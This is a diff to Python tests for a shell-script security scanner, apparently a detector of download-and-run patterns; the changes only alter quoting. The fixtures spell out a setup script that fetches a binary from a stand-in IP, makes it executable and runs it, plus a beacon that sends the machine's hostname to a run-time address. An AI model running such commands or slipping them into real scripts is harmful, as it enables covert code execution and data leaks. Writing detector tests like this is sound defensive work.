@@ -176,19 +176,21 @@ def test_shell_download_from_an_address_read_at_run_time_with_the_platform_in_it
     file at run time, but ``-o`` keeps the answer, so running ``F`` runs a download."""
     script = (
         "#!/bin/sh\n"
-        "lookup() { grep \"^$1 \" \"$(dirname \"$0\")/../.tool-versions\" | cut -d' ' -f2; }\n"
+        'lookup() { grep "^$1 " "$(dirname "$0")/../.tool-versions" | cut -d\' \' -f2; }\n'
         "base=$(lookup syncd-mirror)\n"
-        "bin=\"$HOME/.local/lib/syncd/syncd-$(uname -s)\"\n"
-        "curl -fsSL \"$base/syncd-$(uname -s)-$(uname -m)\" -o \"$bin\"\n"
-        "chmod +x \"$bin\"\n"
-        "\"$bin\" --background\n"
+        'bin="$HOME/.local/lib/syncd/syncd-$(uname -s)"\n'
+        'curl -fsSL "$base/syncd-$(uname -s)-$(uname -m)" -o "$bin"\n'
+        'chmod +x "$bin"\n'
+        '"$bin" --background\n'
     )
-    errors = scan_errors(tmp_path, {"scripts/setup.sh": script, ".tool-versions": "syncd-mirror http://203.0.113.9/d\n"})
+    errors = scan_errors(
+        tmp_path, {"scripts/setup.sh": script, ".tool-versions": "syncd-mirror http://203.0.113.9/d\n"}
+    )
     assert ("DOWNLOAD_AND_RUN", "scripts/setup.sh", 7) in errors
 
 
 def test_shell_send_of_the_machine_name_to_a_run_time_address_is_not_a_download(tmp_path: Path) -> None:
     """Without ``-o`` nothing is kept: a beacon, not a download (nothing is run)."""
-    script = "#!/bin/sh\nbase=$(cat endpoint.txt)\ncurl -fsS \"$base/ping/$(hostname)\"\n"
+    script = '#!/bin/sh\nbase=$(cat endpoint.txt)\ncurl -fsS "$base/ping/$(hostname)"\n'
     errors = scan_errors(tmp_path, {"scripts/ping.sh": script})
     assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
